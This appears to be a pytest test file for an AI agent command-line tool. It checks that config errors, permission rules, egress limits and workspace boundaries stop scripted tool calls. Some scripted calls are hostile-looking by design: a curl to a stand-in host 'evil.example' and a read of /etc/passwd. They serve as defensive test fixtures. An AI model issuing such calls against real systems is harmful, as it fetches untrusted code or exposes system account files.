"""What must not run, or not in silence: wrong settings and rules, other models' keys, output that cannot be written."""

import json
import os

import pytest

from quillback.config import load_settings
from quillback.problems import problems_of, warnings_of

TOUCH = 'call: shell {"command": "touch made"}\n---\ntext: Over.'


def configure(shell, toml: str) -> None:
    shell.home.mkdir(exist_ok=True)
    (shell.home / "config.toml").write_text(toml)


@pytest.mark.parametrize(
    ("toml", "line", "says"),
    [
        ('deny = ["shell(touch *)"]', 1, "deny: shell(touch *): a rule names one command"),
        ('mode = "auto"\nask = [\n "grep",\n "shell(a; b)",\n]', 4, "ask: shell(a; b): a rule names one command"),
        ('deny = ["shel(touch:*)"]', 1, "deny: 'shel(touch:*)': no tool is called shel; did you mean shell?"),
        ('[egress]\ndeny = ["https://x.com"]', 2, "egress.deny: 'https://x.com' is not a host"),
        ('[models."m"]\nwindow = 3', 2, 'models."m".window is not known'),
    ],
)
def test_nothing_runs_with_a_rule_or_setting_that_is_wrong(shell, toml, line, says):
    shell.script(TOUCH)
    configure(shell, toml)
    done = shell("run", "--yes", "--json", "go")
    assert done.returncode == 2
    assert f"{shell.home / 'config.toml'}:{line}: {says}" in done.stderr
    assert says in json.loads(done.stdout)["message"]
    assert not (shell.workspace / "made").exists()
    assert not (shell.home / "quillback.db").exists()


def test_nothing_runs_while_the_reviewer_names_a_tool_that_is_none(shell):
    shell.script(TOUCH)
    configure(shell, "")
    (shell.home / "adversary.md").write_text("tools: shel\nNothing may be made.\n")
    done = shell("run", "--yes", "go")
    assert done.returncode == 2
    assert "adversary.md: tools: no tool is called shel; did you mean shell?" in done.stderr
    assert not (shell.workspace / "made").exists()


def test_rules_about_tools_of_others_are_taken_and_strange_ones_noted(shell):
    configure(shell, 'allow = ["tracker_list_issues"]\ndeny = ["tracker(x)", "notes_add({\\"a\\": 1})"]')
    settings = load_settings({"QUILLBACK_HOME": str(shell.home)})
    assert problems_of(settings) == ()
    (warning,) = warnings_of(settings)
    assert "config.toml:2: deny: tracker(x): no built-in tool has that name" in warning
    doctor = shell("doctor", env={"QUILLBACK_MODEL": "scripted:echo"})
    assert "tracker(x): no built-in tool" in doctor.stdout


def test_egress_of_the_file_has_an_effect(shell):
    shell.script('call: shell {"command": "curl http://evil.example/x"}\n---\ntext: Over.')
    configure(shell, '[egress]\ndeny = ["*.example"]')
    done = shell("run", "--yes", "go")
    assert "the egress rules deny evil.example" in done.stdout


def test_a_variable_that_is_none_of_ours_is_named_and_nothing_else_changes(shell):
    done = shell("run", "hi", env={"QUILLBACK_MODEL": "scripted:echo", "QUILLBACK_MODLE": "x"})
    assert done.returncode == 0
    assert done.stderr == "quillback: QUILLBACK_MODLE: no such variable; did you mean QUILLBACK_MODE?\n"
    doctor = shell("doctor", env={"QUILLBACK_MODEL": "scripted:echo", "QUILLBACK_MODLE": "x"})
    assert "QUILLBACK_MODLE" in doctor.stdout
    assert doctor.returncode == 0


@pytest.mark.parametrize("again", [[], ["--continue"]])
def test_no_key_is_looked_for_when_another_model_is_named(shell, again):
    """The configured model's key comes from a command, which leaves a mark."""
    mark = shell.place / "mark"
    configure(shell, f'mode = "smart"\n[anthropic]\napi_key_command = "touch {mark}; echo sk"')
    (shell.place / "s.script").write_text("text: Hello.")
    script = f"scripted:{shell.place / 's.script'}"
    assert shell("run", "--model", script, "go").returncode == 0
    assert shell("run", "--model", script, *again, "go").returncode == 0
    assert not mark.exists()


def test_a_new_session_is_made_with_the_model_that_was_named(shell):
    assert shell("run", "--model", "scripted:echo", "--mode", "auto", "go").returncode == 0
    (session,) = json.loads(shell("sessions", "list", "--json").stdout)
    assert (session["model"], session["mode"]) == ("scripted:echo", "auto")


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="there is no /dev/full here")  # noqa: PTH110
@pytest.mark.parametrize(
    "arguments", [["run", "hi"], ["run", "--json", "hi"], ["models"], ["doctor"], ["--help"], ["sessions", "list"]]
)
def test_output_that_cannot_be_written_is_a_failure(shell, arguments):
    with open("/dev/full", "w") as full:  # noqa: PTH123
        start = shell.start(*arguments, stdout=full.fileno(), env={"QUILLBACK_MODEL": "scripted:echo"})
        with start as process:
            _, err = process.communicate(timeout=30)
    assert process.returncode == 1
    assert err == "quillback: the output cannot be written: No space left on device\n"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["run", ""], "what is to be done? Write it behind the command"),
        (["run"], "what is to be done? Write it behind the command"),
        (["trust", "/nonexistent"], "/nonexistent is not a directory\n"),
        (["run", "--model", "scripted:nope", "go"], "The script cannot be played: nope: No such file"),
        (["run", "--cwd", "/nonexistent", "go"], "/nonexistent is not a directory; --cwd needs one that exists"),
    ],
)
def test_wrong_usage_is_said_in_words_of_the_command_line(shell, arguments, says):
    done = shell(*arguments)
    assert done.returncode == 2
    assert says in done.stderr


def test_a_session_goes_on_in_its_own_directory_only(shell):
    shell.script("text: Hello.")
    assert shell("run", "go").returncode == 0
    (session,) = json.loads(shell("sessions", "list", "--json").stdout)
    done = shell("run", "--session", session["id"], "--cwd", str(shell.place), "go")
    assert done.returncode == 2
    assert f"the session belongs to {shell.workspace}; leave --cwd out" in done.stderr
    assert shell("run", "--session", session["id"], "--cwd", str(shell.workspace), "go").returncode == 0


def test_a_question_of_the_model_says_how_to_answer_it(shell):
    shell.script('call: ask_user {"question": "Which one?"}')
    done = shell("run", "go")
    assert done.returncode == 0
    assert "Which one?" in done.stdout
    assert done.stderr == 'quillback: to answer the question: quillback run --continue "YOUR ANSWER"\n'


def test_the_audit_says_when_nobody_was_there(shell):
    shell.script(TOUCH)
    assert shell("run", "go").returncode == 1
    (session,) = json.loads(shell("sessions", "list", "--json").stdout)
    assert "not run since nobody was there to ask: shell" in shell("audit", session["id"]).stdout


def test_what_two_inspectors_say_alike_is_said_once(shell):
    shell.script('call: read_file {"path": "/etc/passwd"}\n---\ntext: Over.')
    done = shell("run", "go")
    assert done.stdout.count("/etc/passwd is outside the workspace") == 1
